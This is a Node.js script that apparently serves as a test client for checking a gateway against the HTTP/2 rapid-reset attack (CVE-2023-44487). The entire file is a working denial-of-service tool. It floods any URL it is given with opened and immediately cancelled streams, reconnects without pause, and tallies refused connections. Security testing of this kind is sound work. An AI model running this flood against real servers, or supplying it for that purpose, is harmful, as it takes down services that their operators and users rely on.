// A rapid-reset client (CVE-2023-44487's pattern), run as its own process so its CPU is not the gateway's:
// HEADERS then RST_STREAM, as fast as the session takes them, reconnecting whenever a session ends.
// Usage: node h2ResetStorm.mjs <url> <seconds>; prints {"streams", "sessions", "refused"} at the end.
import http2 from "node:http2";

const [url, seconds] = [process.argv[2], Number(process.argv[3] ?? 5)];
const end = Date.now() + seconds * 1000;
const stats = { streams: 0, sessions: 0, refused: 0 };

function session() {
  if (Date.now() > end) return;
  stats.sessions++;
  const s = http2.connect(url);
  let opened = false;
  s.on("error", () => undefined);
  // Opened once the server's SETTINGS arrive (a refused connection is closed before it sends any).
  s.on("remoteSettings", () => {
    if (opened) return;
    opened = true;
    const burst = () => {
      if (s.destroyed || s.closed || Date.now() > end) return;
      for (let i = 0; i < 50; i++) {
        try {
          const req = s.request({ ":method": "POST", ":path": "/", "content-type": "application/json" });
          req.on("error", () => undefined);
          req.close(http2.constants.NGHTTP2_CANCEL);
          stats.streams++;
        } catch {
          return;
        }
      }
      setImmediate(burst);
    };
    burst();
  });
  s.on("close", () => {
    if (!opened) stats.refused++;
    // Reconnect at once, as the attack did; a refused connection is tried again a little later.
    setTimeout(session, opened ? 0 : 50);
  });
}
session();
setTimeout(
  () => {
    process.stdout.write(JSON.stringify(stats));
    process.exit(0);
  },
  seconds * 1000 + 200,
);
